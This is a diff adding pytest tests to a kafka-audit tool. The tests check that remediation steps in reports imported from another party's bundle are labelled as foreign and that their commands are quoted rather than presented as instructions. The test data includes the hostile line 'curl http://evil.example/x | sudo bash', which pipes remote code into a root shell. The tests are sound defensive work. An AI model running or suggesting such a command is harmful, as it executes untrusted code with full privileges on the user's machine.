@@ -27,6 +27,8 @@ from kafka_audit.cli.bundling import bundle_reading
 from kafka_audit.collect.snapshot import take_snapshot
 from kafka_audit.job import embedded_job
 from kafka_audit.model.errors import StoreError
+from kafka_audit.model.tables import SnapshotInfo
+from kafka_audit.report import formats
 from kafka_audit.store import Store, bundles
 from kafka_audit.store.bundles import Bundle
 from kafka_audit.store.files import Files
@@ -458,3 +460,84 @@ def test_a_bundle_is_made_of_no_snapshot_of_the_future(tmp_path, capsys):
     assert write(store, "prod", tmp_path / "prod.zip") == 0
     assert f"{later} was taken in the future" in capsys.readouterr().err
     assert json.loads(bundled.contents(tmp_path / "prod.zip")["bundle.json"])["snapshot_id"] == ID
+
+
+OWN_STEP = {"kind": "quick", "text": "Run this.", "commands": ["curl http://evil.example/x | sudo bash"], "cost": ""}
+
+
+@pytest.fixture
+def of_another_party(bundle, tmp_path, capsys):
+    """A store with an imported snapshot whose report has a step of its own, and claims to be ours."""
+
+    def change(document):
+        document["incidents"][0]["remediation"] = [OWN_STEP | {"lines": []}]
+
+    hostile, store = with_report(bundle, tmp_path / "hostile.zip", change), Store(tmp_path / "support")
+    assert main(["import", str(hostile), "--store", store.root, "--quiet"]) == 0
+    capsys.readouterr()
+    return store
+
+
+def shown(store, form, capsys):
+    """Return what a form shows; the text of one that becomes a file is that of the file."""
+    assert main(["report", ID, "--out", store.root, "--format", form]) == 0
+    printed = capsys.readouterr().out
+    return printed if form in {"text", "json"} else Path(printed.strip()).read_text()
+
+
+@pytest.mark.parametrize("form", ["text", "json", "html", "md", "sarif"])
+def test_steps_of_an_imported_report_are_shown_as_those_of_its_writer(judged, of_another_party, capsys, form):
+    text, ours = (" ".join(shown(store, form, capsys).split()) for store in (of_another_party, judged))
+    words = '"origin": "bundle"' if form == "json" else "Not by this kafka-audit: the report was imported from a bundle"
+    assert words in text
+    assert words not in ours
+    if form in {"text", "md", "html"}:
+        before = text.partition("curl http://evil.example/x")[0]
+        assert before.rpartition(words)[2].count("Evidence") == 0, "it stands at the steps, too"
+        assert before.count(words) >= 2
+
+
+def test_a_page_shows_the_origin_and_a_report_that_was_judged_here_has_none(judged, of_another_party, tmp_path):
+    history = History(of_another_party.root)
+    assert (history.report(ID)["origin"], "origin" in History(judged.root).report(ID)) == ("bundle", False)
+    bundles.write_bundle(of_another_party, ID, tmp_path / "again.zip", page=formats.FILES["html"], cluster=None)
+    assert "Not by this kafka-audit" in bundled.contents(tmp_path / "again.zip")["report.html"].decode()
+    of_another_party.write_report(ID, judged.read_report(ID))
+    assert "origin" not in history.report(ID)
+
+
+def test_the_next_report_has_no_command_of_an_imported_one(bundle, tmp_path, capsys):
+    """It repeats what the earlier failures said that are over now."""
+
+    def change(document):
+        for finding in document["findings"]:
+            finding["message"] = "Run `curl http://evil.example/x | sudo bash`."
+        document["incidents"][0]["headline"] = "Run `curl http://evil.example/y`"
+
+    store = Store(tmp_path / "support")
+    hostile = with_report(bundle, tmp_path / "hostile.zip", change)
+    assert main(["import", str(hostile), "--store", store.root, "--quiet"]) == 0
+    later = small_cluster.snapshot(bundled.SPEC, LATER)
+    (info,) = later.of(SnapshotInfo)
+    an_hour_on = dataclasses.replace(info, started_ms=info.started_ms + 3_600_000, finished_ms=info.finished_ms + 3_600_000)
+    rows = (an_hour_on if row is info else row for row in later.rows)
+    store.write(dataclasses.replace(later, rows=tuple(rows)))
+    assert main(["diff", ID, LATER, "--out", store.root, "--quiet"]) == 0
+    told = json.dumps(store.read_report(LATER))
+    assert "'curl http://evil.example/x | sudo bash'" in told
+    assert "`curl" not in told
+    assert "origin" not in store.shown_report(LATER)
+    capsys.readouterr()
+
+
+def test_a_bundle_says_nothing_of_where_it_was_imported(bundle, tmp_path):
+    contents = bundled.contents(bundle)
+    manifest = json.loads(contents["snapshot/manifest.json"]) | {"imported": "0" * 64}
+    forged = bundled.rewritten(bundle, tmp_path / "forged.zip", {"snapshot/manifest.json": json.dumps(manifest).encode()})
+    assert main(["import", str(forged), "--store", str(tmp_path / "support"), "--quiet"]) == 0
+    assert Store(tmp_path / "support").shown_report(ID)["origin"] == "bundle"
+
+
+def test_a_bundle_that_is_shown_without_an_import_has_steps_of_its_writer(bundle, capsys):
+    assert main(["report", str(bundle)]) == 0
+    assert "Not by this kafka-audit" in capsys.readouterr().out
